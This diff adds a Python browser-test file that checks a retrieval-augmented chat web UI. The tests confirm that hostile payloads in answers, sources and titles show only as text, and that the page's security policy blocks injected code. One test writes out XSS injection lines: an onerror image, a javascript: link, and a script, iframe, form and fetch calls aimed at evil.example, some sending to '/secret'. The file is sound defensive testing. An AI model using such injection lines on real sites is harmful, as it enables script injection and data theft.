@@ -1,0 +1,360 @@
+"""Whatever a model or a document writes, the page loads nothing, runs nothing, shows it as text, and keeps its controls to itself."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Callable, Iterator
+from html import unescape
+from pathlib import Path
+from typing import TYPE_CHECKING
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from rag.library.intake import File
+from rag.pipeline import Pipeline, build
+from rag.schema import Answer, CheckedFigure, Citation, Confidence, Disagreement, Passage, Source, Statement, Timings
+from rag.settings import Settings
+from tests.ui.web.conftest import Opener, ask, desk_of, served, wait_for_verdicts, with_draft
+from tests.ui.web.payloads import PAYLOADS
+from ui.web.desk import Desk
+from ui.web.exchange import Exchange
+from ui.web.markdown import literal_markdown, safe_markdown
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+HARVEST = "苏州的秘密作物是水八仙。"  # a sentence that every hostile note holds, so that a question finds them
+
+
+# --- the Markdown itself
+
+
+_OURS = re.compile(r"(?:<pre>)?<code>((?:[^!-/:-@\[-`{-~]|&#\d+;)*)</code>(?:</pre>)?")  # code: no sign in it but as an entity
+_LINKS = re.compile(r"\[(?:\\\[\d+\\\]|[^\[\]\n]+)\]\((?:#cite-1-\d+|#figure-1-\d+-(?:not|derived)|https?&#58;&#47;&#47;(?:\w|&#\d+;)+)\)")
+
+
+def assert_harmless(markdown: str) -> None:
+    """No tag, image or link but ours, and nothing that opens code, which browsers might close elsewhere."""
+    rest = re.sub(r"\\[!-/:-@\[-`{-~]", "", _LINKS.sub("", _OURS.sub("", markdown)))
+    assert not re.search(r"<[A-Za-z/!?]|!\[|\]\(|`|~~~|://", rest), rest
+
+
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
+def test_a_payload_becomes_text(payload: str) -> None:
+    for at in (len(payload), len(payload) // 2, len(payload) // 3):  # as a whole, and as far as it has come
+        assert_harmless(safe_markdown(payload[:at], 1, {1}, evidence=[payload]))
+        assert_harmless(literal_markdown(payload[:at]))
+
+
+@given(st.text(alphabet="`~<>![]()1a/ \n\\&-*|:\"'h#=x.@s>", max_size=80))
+def test_no_text_becomes_more_than_text(text: str) -> None:
+    assert_harmless(safe_markdown(text, 1, {1}, evidence=["https://a.a/a"]))
+    assert_harmless(literal_markdown(text))
+
+
+@given(st.lists(st.sampled_from(["`", "```", "~~~", "\n", "[1]", "[a](#again-1)", "[a]: #up-1", "<b>", "> ", "- ", "1. ", "  ", "|", "\\", "甲"]), max_size=30))
+def test_no_sequence_of_signs_opens_a_control(pieces: list[str]) -> None:
+    markdown = safe_markdown("".join(pieces), 1, {1})
+    assert_harmless(markdown)
+    assert not re.search(r"(?m)^[ \t>*+\-.\d)]*\[[^\]\n]*\]:", _LINKS.sub("x", _OURS.sub("x", markdown)))
+
+
+@pytest.mark.parametrize(("text", "shown"), [
+    ("见[年报](https://example.org/a)。", "见年报 ([https://example.org/a](https://example.org/a))。"),
+    ("See https://example.org/a.", "See [https://example.org/a](https://example.org/a)."),
+    ("[https://example.org/a](https://example.org/a)", "[https://example.org/a](https://example.org/a)"),
+    ("[年报](https://example.org/a?q=secret)", "年报 (https://example.org/a?q=secret)"),
+    ("[https://example.org/a](https://evil.example)", "[https://example.org/a](https://example.org/a) (https://evil.example)"),
+    ("https://example.org@evil.example/", "https://example.org@evil.example/"),
+    ("https://example.org.evil.example", "https://example.org.evil.example"),
+])
+def test_an_address_is_told_in_full_and_is_a_link_only_where_a_passage_has_it(text: str, shown: str) -> None:
+    markdown = safe_markdown(text, 1, (), evidence=["据 https://example.org/a，2023 年。"])
+    assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown
+
+
+@pytest.mark.parametrize(("text", "shown"), [
+    ("- ```py\n  x = a[1]\n  ```\n再看[1]", "- <pre><code>x = a[1]</code></pre>\n再看[\\[1\\]](#cite-1-1)"),
+    ("> ~~~\n> a\n> b\n> ~~~\nafter", "> <pre><code>a\nb</code></pre>\nafter"),
+    ("`` a`b `` and `c|d`", "<code>a`b</code> and <code>c|d</code>"),
+])
+def test_code_is_shown_letter_for_letter(text: str, shown: str) -> None:
+    markdown = safe_markdown(text, 1, {1})
+    assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown
+
+
+def test_headings_of_an_answer_stand_below_those_of_the_page() -> None:
+    assert safe_markdown("# 甲\n## 乙\n\n丙\n---\n丁") == "### 甲\n#### 乙\n\n丙\n\n---\n丁"
+    assert safe_markdown("### One\n###### Two") == "### One\n###### Two"
+
+
+# --- a page that is attacked
+
+
+_WATCH = """
+    window.broken = [];
+    document.addEventListener('securitypolicyviolation', (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
+"""
+_FORBIDDEN = ("img picture source iframe frame object embed video audio track canvas form input textarea select style link meta base script "
+              "math template marquee noscript dialog gradio-app x-y xmp applet portal").replace(" ", ",")
+
+
+@pytest.fixture
+def attacked(open_page: Opener) -> Iterator[Callable[..., Page]]:
+    """Opens an address as `open_page` does, and watches; when the test ends nothing may have run, asked or been stopped by the policy."""
+    pages: list[Page] = []
+    asked: list[str] = []
+
+    def opened(address: str, **options: object) -> Page:
+        page = open_page(address, **options)
+        page.evaluate(_WATCH)
+        page.add_init_script(_WATCH)  # after a reload
+        page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
+        page.context.on("page", lambda other: asked.append(f"a window: {other.url}"))
+        pages.append(page)
+        return page
+
+    yield opened
+    for page in pages:
+        assert page.evaluate("window.hacked") is None
+        assert page.evaluate("window.broken") == []
+    assert asked == []
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Desk:
+    """A library of hostile notes, a conversation about them for each payload in every place, and one conversation titled by each."""
+    folder, home = tmp_path_factory.mktemp("notes"), tmp_path_factory.mktemp("home")
+    pipeline = build(Settings(home=home, chat_model=""))
+    with pipeline.library.writing():
+        list(pipeline.library.add_all(File(note) for note in notes(folder)))
+    return desk_of(pipeline)
+
+
+def notes(folder: Path) -> Iterator[Path]:
+    """A note for each payload, which is in its name, in all that it says of itself, and in its text; and one with all of them."""
+    for number, payload in enumerate(PAYLOADS.values()):
+        line = told(" ".join(payload.split()))
+        stated = {name: line for name in ("title", "author", "publisher", "container", "city", "url", "date")}
+        name = re.sub(r"[/\x00-\x1f]", " ", line).encode()[:180].decode(errors="ignore")
+        note = folder / f"{number} {name}.md"
+        note.write_text(f"---\n{json.dumps(stated, ensure_ascii=False)}\n---\n\n# {line}\n\n{HARVEST}{number}\n\n{payload}\n", encoding="utf-8")
+        yield note
+    everything = folder / "everything.md"
+    everything.write_text("# 全部\n\n" + "\n\n".join(PAYLOADS.values()), encoding="utf-8")
+    yield everything
+
+
+def exchange(payload: str, number: int) -> Exchange:
+    """An answer of which everything is the payload."""
+    half = payload[: len(payload) // 2]
+    passage = Passage(1, f"p-{number}", "s", payload, payload, 1, 0, 9, payload, 0.5, "en", date=payload)
+    statement = Statement(payload, payload, payload, 1, payload, payload)
+    figures = (CheckedFigure(half, 0, len(half), "not found", (1,), (payload,)),
+               CheckedFigure(payload, 0, len(payload), "derived", (1,), (payload,), payload))
+    return Exchange(Answer(
+        payload, "en", "partial", payload, (Citation(1, payload, passage.id, "s", payload, payload, 1, half, "verified quote"),), (passage,),
+        payload, Timings(1, 1, 1), thinking=payload, figures=figures, disagreements=(Disagreement(payload, "conflict", (statement,) * 2),),
+        confidence=Confidence("weak", (payload,)), suggestions=(payload,)), problem=payload if number % 10 == 0 else "")
+
+
+def told(text: str) -> str:
+    """A text without what no reader sees: control characters, signs that turn letters around, and what stands for them."""
+    return re.sub(r"[\x00-\x08\x0b-\x1f\u200b\u202a-\u202e\u2060-\u2069\ufdd0-\ufdd2\ufffd]", "", text)
+
+
+def letters(text: str) -> str:
+    return re.sub(r"\s", "", told(text))
+
+
+def words(text: str) -> str:
+    return re.sub(r"[\W_]", "", told(text))
+
+
+# --- in a conversation
+
+
+@pytest.mark.browser
+def test_kept_answers_and_their_evidence_stay_text(hostile: Desk, attacked: Callable[..., Page]) -> None:
+    id, source = "", Source("s", *["x"] * 2, "en")
+    for number, payload in enumerate(PAYLOADS.values()):
+        source = Source("s", payload, payload, "en", author=payload, publisher=payload, container=payload, date=payload, url=payload)
+        id, _ = hostile.history.keep(id, exchange(payload, number), [source])
+    with served(hostile) as address:
+        page = attacked(address)
+        page.goto(f"{address}/?c={id}")
+        wait_for_verdicts(page, len(PAYLOADS))
+        page.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
+        page.wait_for_timeout(300)
+        assert forbidden(page, "#chat .message-content, .evidence, #conversations") == []
+        assert_replies_are_text(page)
+        for selector in ("#chat .words", "#evidence .passage", "#evidence .card .title", "#chat .aloud", "#chat .differ b[lang]"):
+            shown = page.eval_on_selector_all(selector, "(all) => all.map((each) => each.textContent)")
+            for payload, text in zip(PAYLOADS.values(), (shown if selector != "#chat .differ b[lang]" else shown[::1]), strict=True):
+                assert letters(payload) in letters(text), selector
+        links = page.eval_on_selector_all("#chat .reply a, #chat .words a", "(all) => all.map((a) => [a.innerText, a.getAttribute('href'), a.rel, a.target])")
+        for text, href, rel, target in links:
+            if not re.fullmatch(r"#(cite|figure)-\d+-\d+(-not|-derived)?", href):
+                assert (text, rel, target) == (href, "noopener noreferrer", "_blank")  # the address itself, and a passage has it
+        assert page.locator('#chat a[href^="#again-"]').count() == len(PAYLOADS)
+        assert page.locator('#chat a[href^="#ask-"]').count() == 1
+
+
+def assert_replies_are_text(page: Page) -> None:
+    replies = page.eval_on_selector_all("#chat .reply", "(all) => all.map((each) => each.textContent)")
+    for (name, payload), text in zip(PAYLOADS.items(), replies, strict=True):
+        expected = re.sub(r"(```|~~~) *mermaid|(?<=\n)```$|^- \[x\]", "", payload)  # a language of code, and what ticks a box, are not shown
+        assert words(unescape(expected)) == words(unescape(text)), name  # code by indentation shows entities
+    tags = page.evaluate("""() => {
+        const all = [...document.querySelectorAll('#chat .reply *')].filter((each) => !each.closest('.code_wrap > button'));
+        return [...new Set(all.flatMap((each) => [each.tagName, ...each.getAttributeNames()]))];
+    }""")
+    assert set(tags) <= {"P", "BR", "A", "CODE", "PRE", "UL", "OL", "LI", "STRONG", "EM", "DEL", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "H3",
+                         "H4", "H5", "H6", "BLOCKQUOTE", "HR", "DIV", "BUTTON", "SPAN", "class", "href", "target", "rel", "title", "align", "start"}
+
+
+def forbidden(page: Page, within: str) -> list[str]:
+    """What stands in a part of the page and may not: elements that load or run something, and attributes that run something."""
+    return page.evaluate("""([within, forbidden]) => [...document.querySelectorAll(within)].flatMap((part) => [
+        ...[...part.querySelectorAll(forbidden)].map((each) => each.outerHTML.slice(0, 200)),
+        ...[...part.querySelectorAll('*')].flatMap((each) => each.getAttributeNames().filter((name) => /^on|^style$|^src|^formaction/.test(name))),
+        ...[...part.querySelectorAll('[href]')].map((each) => each.getAttribute('href')).filter((href) => !/^(#|https?:|\\.\\/|page\\/)/.test(href)),
+    ])""", [within, _FORBIDDEN])
+
+
+@pytest.mark.browser
+def test_an_answer_under_way_stays_text(hostile: Desk, attacked: Callable[..., Page]) -> None:
+    fenced = [payload for payload in PAYLOADS.values() if "```" in payload or "~~~" in payload]
+    plain = [payload for payload in PAYLOADS.values() if payload not in fenced]
+    altered = [PAYLOADS["markers that are none"], PAYLOADS["check box"]]  # the pipeline makes markers of the one, the page boxes of the other
+
+    def draft(*_: object) -> Iterator[str]:
+        for payload in [*plain, *fenced]:  # what opens a fence at the end, so that it hides no other
+            yield payload[: len(payload) // 2]
+            time.sleep(0.03)
+            yield payload[len(payload) // 2 :] + "\n\n"
+
+    with served(Desk(with_draft(hostile.pipeline, draft), hostile.history, hostile.settings)) as address:
+        page = attacked(address)
+        page.evaluate("""(loading) => new MutationObserver(() => {
+            window.seen = [...(window.seen || []), ...[...document.querySelectorAll(`#chat .reply :is(${loading}, a:not([href^="#cite-"], [href^="#figure-"]))`)]
+                .map((each) => each.outerHTML)];
+        }).observe(document.querySelector('#chat'), { childList: true, subtree: true })""", _FORBIDDEN)
+        ask(page, "苏州的秘密作物是什么？")
+        assert page.evaluate("window.seen") == []
+        assert forbidden(page, "#chat .message-content, .evidence") == []
+        assert page.locator("#chat .reply a:not([href^='#cite-']):not([href^='#figure-'])").count() == 0
+        page.evaluate("document.querySelectorAll('#chat .reply a[href^=\"#cite-\"]').forEach((chip) => chip.remove())")  # matched by the pipeline
+        shown = words(unescape(page.text_content("#chat .reply") or ""))
+        assert [payload for payload in plain if words(unescape(payload)) not in shown and payload not in altered] == []
+
+
+@pytest.mark.browser
+def test_a_control_that_is_written_into_an_answer_or_a_passage_is_dead(hostile: Desk, attacked: Callable[..., Page]) -> None:
+    with served(hostile) as address:
+        page = attacked(address)
+        ask(page, "苏州的秘密作物是什么？")
+        page.click('#chat a[href^="#cite-1-"] >> nth=0')
+        said = page.inner_text("#chat")
+        for place in ("#chat .reply", "#chat .words", "#evidence .passage"):  # as if it had come through all the same
+            for href in ("#again-1", "#ask-1", "#up-1", "#edit-1", "#view-settings", "#scope", "#document"):
+                page.evaluate("""([place, href]) => {
+                    document.querySelector(place).insertAdjacentHTML('beforeend', `<a id="forged" href="${href}">press</a>`);
+                    document.querySelector('#forged').click();
+                    document.querySelector('#forged').remove();
+                }""", [place, href])
+        page.wait_for_timeout(300)
+        assert page.inner_text("#chat") == said
+        assert page.locator("dialog").count() == 0
+        assert page.get_attribute("html", "data-view") == "chat"
+        assert page.input_value("#ask textarea") == ""
+
+
+# --- in lists, dialogs and the other views
+
+
+@pytest.mark.browser
+def test_titles_of_conversations_stay_text(hostile: Desk, attacked: Callable[..., Page]) -> None:
+    titles = [" ".join(told(payload).split())[:200] for payload in PAYLOADS.values()]
+    for payload, title in zip(PAYLOADS.values(), titles, strict=True):
+        id, _ = hostile.history.keep("", Exchange(Answer(payload, "en", "partial", "Yes.", model="m", timings_ms=Timings(1, 1, 1))), [])
+        hostile.history.rename(id, title)
+    with served(hostile) as address:
+        page = attacked(address)
+        page.wait_for_selector("#conversations a.conversation")
+        shown = page.eval_on_selector_all("#conversations a.conversation", "(all) => all.map((a) => [a.textContent, a.title])")
+        for title in titles:
+            assert [title, title] in shown
+        assert forbidden(page, "#conversations") == []
+        for title in (PAYLOADS["image with an error"], PAYLOADS["unfolding"]):
+            item = page.locator("#conversations li", has_text=title[:30]).first
+            for act in ("rename", "delete"):
+                item.hover()
+                item.locator(".menu > summary").click()
+                item.locator(f'[data-act="{act}"]').click()
+                page.wait_for_selector("dialog.wonder")
+                assert page.locator("dialog.wonder :is(img, details, script)").count() == 0
+                page.click("dialog [data-close]")
+        for payload in ("image with an error", "svg on load", "bare address"):
+            page.goto(f"{address}/?c={quote(PAYLOADS[payload])}")  # it names no conversation, and the page says so
+            page.wait_for_selector(".toast-body")
+            assert page.locator(".toast-body :is(img, a)").count() == 0
+
+
+@pytest.mark.browser
+def test_documents_stay_text_in_every_list_and_dialog(hostile: Desk, attacked: Callable[..., Page]) -> None:
+    with served(hostile) as address:
+        page = attacked(address)
+        ask(page, "苏州的秘密作物是什么？")
+        page.click("#scope-line a")
+        page.wait_for_selector("dialog.scope .choices label")
+        assert page.locator("dialog.scope label").count() == len(PAYLOADS) + 1
+        assert forbidden(page, "dialog.scope .choices label span") == []
+        assert page.eval_on_selector_all("dialog.scope input", "(all) => all.map((each) => each.type)").count("checkbox") == len(PAYLOADS) + 1
+        page.keyboard.press("Escape")
+        for number in range(3):  # the documents themselves
+            page.click(f"#evidence-1 .card[open] .tools a[href='#document'] >> nth={min(number, 0)}")
+            page.wait_for_selector("dialog.reader article")
+            assert forbidden(page, "dialog.reader") == []
+            assert "水八仙" in page.inner_text("dialog.reader article")
+            page.click("dialog.reader [data-close]")
+        page.evaluate("async () => { document.body.append(Object.assign(document.createElement('article'), { id: 'all', innerHTML: "
+                      "await (await fetch('page/sources/' + (await everything()))).text() })); async function everything() { "
+                      "const all = document.createElement('template'); all.innerHTML = await (await fetch('page/scope?search=everything')).text(); "
+                      "return all.content.querySelector('[name=sources]').value; } }")
+        assert forbidden(page, "#all") == []
+        shown = letters(page.text_content("#all") or "")
+        assert all(line in shown for payload in PAYLOADS.values() for line in map(letters, payload.split("\n")) if line.isalpha())
+
+
+# --- the policy
+
+
+@pytest.mark.browser
+def test_the_policy_stops_what_would_come_through(pipeline: Pipeline, browser: Browser) -> None:
+    with served(pipeline) as address:
+        page = browser.new_page()
+        page.goto(address)
+        page.wait_for_selector("#ask textarea")
+        page.evaluate(_WATCH)
+        page.evaluate("""() => {
+            const into = document.querySelector('#evidence');
+            into.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked=1"><a href="javascript:window.hacked=2" id="go">x</a>'
+                + '<iframe src="https://evil.example"></iframe><form action="https://evil.example" id="out"></form>');
+            into.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 3' }));
+            into.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
+            document.querySelector('#go').click();
+            document.querySelector('#out').submit();
+            fetch('https://evil.example/secret').catch(() => {});
+            new Image().src = 'https://evil.example/secret.png';
+        }""")
+        page.wait_for_function("broken.length >= 8")
+        stopped = {told.split()[0] for told in page.evaluate("broken")}
+        assert page.evaluate("window.hacked") is None
+        assert stopped >= {"script-src-attr", "script-src-elem", "frame-src", "form-action", "connect-src", "img-src"}
+        page.close()
